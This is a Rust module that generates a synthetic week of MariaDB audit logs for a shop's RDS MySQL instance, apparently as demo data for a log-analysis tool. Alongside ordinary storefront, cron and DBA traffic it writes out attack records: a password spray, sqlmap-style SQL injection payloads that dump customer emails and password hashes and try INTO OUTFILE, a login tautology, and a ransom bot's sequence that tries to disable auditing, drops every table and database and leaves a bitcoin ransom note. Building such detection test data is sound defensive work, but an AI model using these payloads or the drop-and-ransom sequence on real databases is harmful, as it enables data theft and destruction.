//! `shop-mysql`: RDS for MySQL 8.0 with the MariaDB audit plugin
//! (`SERVER_AUDIT_EVENTS = CONNECT,QUERY`, `rdsadmin` excluded, which still logs its
//! connections), written to `audit/server_audit.log` and rotated at RDS's default
//! 1,000,000 bytes into `server_audit.log.1` (newest) ... `.N` (oldest).
//!
//! A record is `timestamp,serverhost,username,host,connectionid,queryid,operation,
//! database,object,retcode`; a query is quoted with `'` and `\` escaped, as in the real
//! MariaDB output in `crates/keibi/tests/data/samples/mariadb-server_audit.log`.

use super::{at, ip, load, DemoFile, Ms, Records, Rng, Week, HOUR, LOG_DIR, MIN, SEC, WEEK};

const INSTANCE: &str = "shop-mysql";
const SERVER_HOST: &str = "ip-10-0-1-187";
/// RDS's default `SERVER_AUDIT_FILE_ROTATE_SIZE`.
const ROTATE_SIZE: usize = 1_000_000;

/// The storefront's PHP servers (one connection per request, no pool).
const WEB_SERVERS: [&str; 2] = ["10.0.2.21", "10.0.2.22"];
const CRON_HOST: &str = "10.0.3.15";

#[derive(Clone, Copy, PartialEq)]
enum Op {
    Connect,
    FailedConnect,
    Query,
    Disconnect,
}

struct Line {
    sess: usize,
    op: Op,
    db: &'static str,
    /// The query, not yet escaped.
    query: String,
    retcode: u32,
}

struct Session {
    user: &'static str,
    host: &'static str,
}

struct My {
    rng: Rng,
    recs: Records<Line>,
    sessions: Vec<Session>,
    /// When the ransom bot drops the storefront's database: the site's connections
    /// fail from then on.
    storefront_dropped: Ms,
}

/// Day 6, late on Sunday night: the ransom campaign.
const RANSOM_AT: Ms = at(6, 23, 47, 18);

/// Generates the instance's audit log, rotated.
pub(super) fn generate(week: &Week) -> Vec<DemoFile> {
    let mut my = My {
        rng: Rng::new(0x3306_0a0d),
        recs: Records::new(),
        sessions: Vec::new(),
        storefront_dropped: WEEK,
    };
    my.ransom();
    my.rdsadmin();
    my.storefront();
    my.cron();
    my.dba();
    my.spray();
    my.sql_injection();
    my.render(week)
}

impl My {
    fn push(&mut self, t: Ms, sess: usize, op: Op, db: &'static str, query: String, retcode: u32) {
        self.recs.push(
            t,
            Line {
                sess,
                op,
                db,
                query,
                retcode,
            },
        );
    }

    fn connect(
        &mut self,
        t: Ms,
        user: &'static str,
        host: &'static str,
        db: &'static str,
    ) -> usize {
        self.sessions.push(Session { user, host });
        let s = self.sessions.len() - 1;
        self.push(t, s, Op::Connect, db, String::new(), 0);
        s
    }

    /// A wrong password: `FAILED_CONNECT` with error 1045, then the disconnect.
    fn failed(&mut self, t: Ms, user: &'static str, host: &'static str) {
        self.failed_with(t, user, host, "", 1045);
    }

    fn failed_with(
        &mut self,
        t: Ms,
        user: &'static str,
        host: &'static str,
        db: &'static str,
        code: u32,
    ) {
        self.sessions.push(Session { user, host });
        let s = self.sessions.len() - 1;
        self.push(t, s, Op::FailedConnect, db, String::new(), code);
        self.push(t, s, Op::Disconnect, "", String::new(), 0);
    }

    fn query(&mut self, s: usize, t: Ms, db: &'static str, sql: impl Into<String>, retcode: u32) {
        self.push(t, s, Op::Query, db, sql.into(), retcode);
    }

    fn disconnect(&mut self, s: usize, t: Ms, db: &'static str) {
        self.push(t, s, Op::Disconnect, db, String::new(), 0);
    }

    // -------------------------------------------------------------- ordinary life

    /// RDS's own monitoring user: excluded from query auditing, but its connections
    /// are always logged.
    fn rdsadmin(&mut self) {
        let mut t = 44 * SEC;
        while t < WEEK {
            let s = self.connect(t, "rdsadmin", "localhost", "");
            let end = t + self.rng.range(2, 30) as Ms;
            self.disconnect(s, end, "");
            t += 5 * MIN;
        }
    }

    /// The legacy PHP storefront: a connection per page, values inlined by the app
    /// (escaped with `mysqli_real_escape_string`).
    fn storefront(&mut self) {
        for t in load(&mut self.rng, 28) {
            let host = self.rng.pick(&WEB_SERVERS);
            if t > self.storefront_dropped {
                // ER_BAD_DB_ERROR: the ransom bot dropped the database.
                self.failed_with(t, "storefront", host, "storefront", 1049);
                continue;
            }
            let s = self.connect(t, "storefront", host, "storefront");
            let mut t = t + self.rng.range(1, 4) as Ms;
            self.query(s, t, "storefront", "SET NAMES utf8mb4", 0);
            for sql in self.page() {
                t += self.rng.range(1, 25) as Ms;
                self.query(s, t, "storefront", sql, 0);
            }
            let end = t + self.rng.range(1, 9) as Ms;
            self.disconnect(s, end, "storefront");
        }
    }

    /// The queries of one page view.
    fn page(&mut self) -> Vec<String> {
        let r = &mut self.rng;
        let id = r.range(1000, 4999);
        let sid = r.chars(b"0123456789abcdefghijklmnopqrstuv", 26);
        let email = format!(
            "{}@{}",
            r.pick(&[
                "ann.lee",
                "j.schmidt",
                "mario.rossi",
                "yuki.tanaka",
                "s.obrien",
                "p.nowak"
            ]),
            r.pick(&["example.com", "example.org", "example.net"])
        );
        let touch = format!("UPDATE sessions SET last_seen = NOW() WHERE id = '{sid}'");
        match r.below(100) {
            0..=39 => vec![
                format!("SELECT id, name, price, stock FROM products WHERE id = {id}"),
                format!(
                    "SELECT r.rating, r.title, r.body FROM reviews r WHERE r.product_id = {id} \
                     ORDER BY r.created_at DESC LIMIT 5"
                ),
            ],
            40..=64 => vec![format!(
                "SELECT id, name, price FROM products WHERE category_id = {} AND active = 1 \
                 ORDER BY name LIMIT 24 OFFSET {}",
                r.range(1, 18),
                r.below(4) * 24
            )],
            65..=76 => {
                let term = r.pick(&["mug", "lamp", "green tea", "O\\'Reilly", "bag", "50% off"]);
                vec![format!(
                    "SELECT id, name, price FROM products WHERE name LIKE '%{term}%' AND \
                     active = 1 LIMIT 24"
                )]
            }
            77..=84 => vec![
                format!(
                    "INSERT INTO cart_items (session_id, product_id, qty) VALUES ('{sid}', {id}, 1)"
                ),
                touch,
            ],
            85..=93 => vec![
                format!(
                    "SELECT id, email, password_hash FROM customers WHERE email = '{email}' LIMIT 1"
                ),
                touch,
            ],
            _ => vec![
                format!(
                    "INSERT INTO orders (customer_id, total, status, created_at) VALUES ({}, \
                     {}.{:02}, 'new', NOW())",
                    r.range(1, 60_000),
                    r.range(9, 240),
                    r.below(100)
                ),
                format!("DELETE FROM cart_items WHERE session_id = '{sid}'"),
            ],
        }
    }

    /// Cron: the hourly sitemap and the nightly clean-up and sales roll-up.
    fn cron(&mut self) {
        for hour in 0..7 * 24 {
            let t = hour * HOUR + 5 * MIN + self.rng.below(3000) as Ms;
            if t > self.storefront_dropped {
                break;
            }
            let s = self.connect(t, "cron", CRON_HOST, "storefront");
            self.query(
                s,
                t + 2,
                "storefront",
                "SELECT id, slug, updated_at FROM products WHERE active = 1",
                0,
            );
            self.disconnect(s, t + 380, "storefront");
        }
        for day in 0..7 {
            let mut t = at(day, 3, 30, 1) + self.rng.below(2000) as Ms;
            let s = self.connect(t, "cron", CRON_HOST, "storefront");
            for sql in [
                "DELETE FROM sessions WHERE last_seen < NOW() - INTERVAL 30 DAY",
                "DELETE FROM cart_items WHERE session_id NOT IN (SELECT id FROM sessions)",
                "TRUNCATE TABLE search_cache",
                "INSERT INTO analytics.daily_sales (day, orders, revenue) SELECT \
                 DATE(created_at), COUNT(*), SUM(total) FROM orders WHERE created_at >= \
                 CURDATE() - INTERVAL 1 DAY AND created_at < CURDATE() GROUP BY DATE(created_at)",
            ] {
                t += self.rng.range(30, 2500) as Ms;
                self.query(s, t, "storefront", sql, 0);
            }
            self.disconnect(s, t + 20, "storefront");
        }
    }

    /// A DBA mistypes his password twice, then adds an index.
    fn dba(&mut self) {
        let t = at(5, 10, 3, 12);
        self.failed(t, "tom", ip::OFFICE);
        self.failed(t + 6 * SEC, "tom", ip::OFFICE);
        let s = self.connect(t + 15 * SEC, "tom", ip::OFFICE, "");
        let mut t = t + 15 * SEC + 3;
        for (after, db, sql) in [
            (0, "", "select @@version_comment limit 1"),
            (9, "", "SHOW PROCESSLIST"),
            (
                40,
                "",
                "SELECT table_name, table_rows, data_length FROM information_schema.tables \
                 WHERE table_schema = 'storefront' ORDER BY data_length DESC",
            ),
            (
                95,
                "storefront",
                "ALTER TABLE orders ADD INDEX idx_orders_created_at (created_at)",
            ),
        ] {
            t += after * SEC;
            self.query(s, t, db, sql, 0);
        }
        self.disconnect(s, t + 3 * MIN, "storefront");
    }

    // -------------------------------------------------------------- attacks

    /// Day 1, 04:12: a password spray from a listed address: a few common passwords
    /// against many user names.
    fn spray(&mut self) {
        const USERS: [&str; 12] = [
            "root",
            "admin",
            "test",
            "mysql",
            "user",
            "backup",
            "dbadmin",
            "wordpress",
            "magento",
            "shop",
            "guest",
            "support",
        ];
        let mut t = at(1, 4, 12, 3);
        for _round in 0..3 {
            for user in USERS {
                self.failed(t, user, ip::MYSQL_SPRAY);
                t += self.rng.range(2_000, 14_000) as Ms;
            }
        }
    }

    /// Day 2, 13:05: sqlmap through the storefront's product page (`?id=`): boolean,
    /// ORDER BY and UNION column probes, time-based SLEEP, stacked queries, a dump of
    /// the customers, an attempt to write a file; and a login-form tautology.
    fn sql_injection(&mut self) {
        let base = "SELECT id, name, price, stock FROM products WHERE id = ";
        let mut payloads: Vec<(String, u32, Ms)> = vec![
            ("1337'".into(), 1064, 0),
            ("1337 AND 7541=7541".into(), 0, 0),
            ("1337 AND 7541=4112".into(), 0, 0),
        ];
        for n in 1..=5 {
            let code = if n == 5 { 1054 } else { 0 };
            payloads.push((format!("1337 ORDER BY {n}-- -"), code, 0));
        }
        for n in 1..=4 {
            let nulls = vec!["NULL"; n].join(",");
            let code = if n == 4 { 0 } else { 1222 };
            payloads.push((format!("1337 UNION ALL SELECT {nulls}-- -"), code, 0));
        }
        payloads.extend([
            ("1337 AND SLEEP(5)".into(), 0, 5 * SEC),
            (
                "1337 AND (SELECT 6272 FROM (SELECT(SLEEP(5)))qKpN)".into(),
                0,
                5 * SEC,
            ),
            ("1337; SELECT SLEEP(5)#".into(), 1064, 0),
            (
                "-6353 UNION ALL SELECT NULL,CONCAT(0x716a6b7671,0x4b6a4d6f,0x7178627a71),NULL,\
                 NULL-- -"
                    .into(),
                0,
                0,
            ),
            (
                "-6353 UNION ALL SELECT NULL,CONCAT(0x716a6b7671,IFNULL(CAST(schema_name AS \
                 NCHAR),0x20),0x7178627a71),NULL,NULL FROM INFORMATION_SCHEMA.SCHEMATA-- -"
                    .into(),
                0,
                0,
            ),
            (
                "-6353 UNION ALL SELECT NULL,CONCAT(0x716a6b7671,IFNULL(CAST(table_name AS \
                 NCHAR),0x20),0x7178627a71),NULL,NULL FROM INFORMATION_SCHEMA.TABLES WHERE \
                 table_schema IN (0x73746f726566726f6e74)-- -"
                    .into(),
                0,
                0,
            ),
            (
                "-6353 UNION ALL SELECT NULL,CONCAT(0x716a6b7671,IFNULL(CAST(email AS \
                 NCHAR),0x20),0x6b6d6a6c78,IFNULL(CAST(password_hash AS \
                 NCHAR),0x20),0x7178627a71),NULL,NULL FROM storefront.customers-- -"
                    .into(),
                0,
                0,
            ),
            (
                "-6353 UNION ALL SELECT email,password_hash,NULL,NULL FROM customers INTO \
                 OUTFILE '/tmp/.c.txt'-- -"
                    .into(),
                1045,
                0,
            ),
        ]);
        let mut t = at(2, 13, 5, 40);
        // The load balancer's sticky sessions keep sqlmap (it keeps its cookie) on
        // one server.
        let host = WEB_SERVERS[0];
        for (payload, code, took) in payloads {
            let s = self.connect(t, "storefront", host, "storefront");
            self.query(s, t + 1, "storefront", "SET NAMES utf8mb4", 0);
            self.query(
                s,
                t + 2 + took,
                "storefront",
                format!("{base}{payload}"),
                code,
            );
            self.disconnect(s, t + 4 + took, "storefront");
            t += took + self.rng.range(1_500, 9_000) as Ms;
        }
        // The login form.
        t += 3 * MIN;
        let s = self.connect(t, "storefront", host, "storefront");
        self.query(s, t + 1, "storefront", "SET NAMES utf8mb4", 0);
        self.query(
            s,
            t + 2,
            "storefront",
            "SELECT id, email, password_hash FROM customers WHERE email = 'admin@example.com' \
             OR '1'='1' -- ' LIMIT 1",
            0,
        );
        self.disconnect(s, t + 5, "storefront");
    }

    /// Day 6, 23:47: a ransom bot logs in as the master user from a listed address,
    /// tries to turn auditing off, dumps every table, drops them and the databases,
    /// and leaves a note asking for bitcoin.
    fn ransom(&mut self) {
        const TABLES: [&str; 10] = [
            "customers",
            "orders",
            "order_items",
            "products",
            "categories",
            "cart_items",
            "sessions",
            "reviews",
            "search_cache",
            "payments",
        ];
        let mut t = RANSOM_AT;
        let s = self.connect(t, "admin", ip::RANSOM, "");
        let say = |my: &mut My, t: &mut Ms, sql: String, code: u32| {
            *t += my.rng.range(40, 900) as Ms;
            my.query(s, *t, "", sql, code);
        };
        say(self, &mut t, "SET AUTOCOMMIT = 0".into(), 0);
        say(self, &mut t, "SELECT VERSION()".into(), 0);
        say(self, &mut t, "SHOW DATABASES".into(), 0);
        say(
            self,
            &mut t,
            "SET GLOBAL server_audit_logging = OFF".into(),
            1227,
        );
        say(
            self,
            &mut t,
            "SELECT table_schema, table_name, table_rows FROM information_schema.tables WHERE \
             table_schema NOT IN ('mysql', 'information_schema', 'performance_schema', 'sys')"
                .into(),
            0,
        );
        for table in TABLES {
            say(
                self,
                &mut t,
                format!("SELECT * FROM `storefront`.`{table}`"),
                0,
            );
        }
        say(
            self,
            &mut t,
            "SELECT * FROM `analytics`.`daily_sales`".into(),
            0,
        );
        for table in TABLES {
            say(
                self,
                &mut t,
                format!("DROP TABLE IF EXISTS `storefront`.`{table}`"),
                0,
            );
        }
        say(self, &mut t, "DROP DATABASE `storefront`".into(), 0);
        self.storefront_dropped = t;
        say(self, &mut t, "DROP DATABASE `analytics`".into(), 0);
        say(
            self,
            &mut t,
            "CREATE DATABASE `README_TO_RECOVER_STOREFRONT`".into(),
            0,
        );
        say(
            self,
            &mut t,
            "CREATE TABLE `README_TO_RECOVER_STOREFRONT`.`README` (`message` TEXT)".into(),
            0,
        );
        let wallet = self.rng.chars(b"023456789acdefghjklmnpqrstuvwxyz", 38);
        say(
            self,
            &mut t,
            format!(
                "INSERT INTO `README_TO_RECOVER_STOREFRONT`.`README` (`message`) VALUES ('All \
                 your data is backed up on our servers and was deleted from yours. To get it \
                 back, pay 0.0085 BTC to the bitcoin address bc1q{wallet} and write to \
                 restore.data@mail.example with your server\\'s IP address. If we are not paid \
                 within 9 days, your data will be sold or leaked.')"
            ),
            0,
        );
        say(self, &mut t, "COMMIT".into(), 0);
        self.disconnect(s, t + 300, "");
    }

    // -------------------------------------------------------------- output

    /// Sorts the records, numbers connections in order of arrival and queries with the
    /// server's global counter (which `rdsadmin`'s unlogged once-a-second query also
    /// advances), and rotates the file by size.
    fn render(self, week: &Week) -> Vec<DemoFile> {
        let My { recs, sessions, .. } = self;
        let mut ids = vec![0u64; sessions.len()];
        let mut next_id = 31u64;
        let mut query_id = 1_207u64;
        let mut last_sec = 0i64;
        let mut chunks: Vec<Vec<u8>> = Vec::new();
        let mut body: Vec<u8> = Vec::with_capacity(ROTATE_SIZE + 4096);
        let mut stamp_t = i64::MIN;
        let mut stamp = String::new();
        for rec in recs.sorted() {
            let line = &rec.body;
            if rec.t / SEC != stamp_t {
                stamp_t = rec.t / SEC;
                let c = week.civil(rec.t);
                stamp = format!(
                    "{:04}{:02}{:02} {:02}:{:02}:{:02}",
                    c.year, c.month, c.day, c.hour, c.minute, c.second
                );
            }
            if ids[line.sess] == 0 {
                next_id += 1;
                ids[line.sess] = next_id;
            }
            let sess = &sessions[line.sess];
            let (op, qid, object) = match line.op {
                Op::Connect => ("CONNECT", 0, String::new()),
                Op::FailedConnect => ("FAILED_CONNECT", 0, String::new()),
                Op::Disconnect => ("DISCONNECT", 0, String::new()),
                Op::Query => {
                    query_id += 1 + (rec.t / SEC - last_sec).max(0) as u64;
                    last_sec = rec.t / SEC;
                    ("QUERY", query_id, escape(&line.query))
                }
            };
            let text = format!(
                "{stamp},{SERVER_HOST},{},{},{},{qid},{op},{},{object},{}\n",
                sess.user, sess.host, ids[line.sess], line.db, line.retcode
            );
            body.extend_from_slice(text.as_bytes());
            if body.len() >= ROTATE_SIZE {
                chunks.push(std::mem::take(&mut body));
            }
        }
        chunks.push(body);
        let n = chunks.len();
        chunks
            .into_iter()
            .enumerate()
            .map(|(i, body)| {
                let rotation = n - 1 - i;
                let suffix = if rotation == 0 {
                    String::new()
                } else {
                    format!(".{rotation}")
                };
                DemoFile {
                    path: format!("{LOG_DIR}/{INSTANCE}/audit/server_audit.log{suffix}"),
                    body,
                }
            })
            .collect()
    }
}

/// Quotes a query as the audit plugin does: `'...'` with `'` and `\` escaped.
fn escape(sql: &str) -> String {
    let mut out = String::with_capacity(sql.len() + 2);
    out.push('\'');
    for c in sql.chars() {
        match c {
            '\'' => out.push_str("\\'"),
            '\\' => out.push_str("\\\\"),
            _ => out.push(c),
        }
    }
    out.push('\'');
    out
}
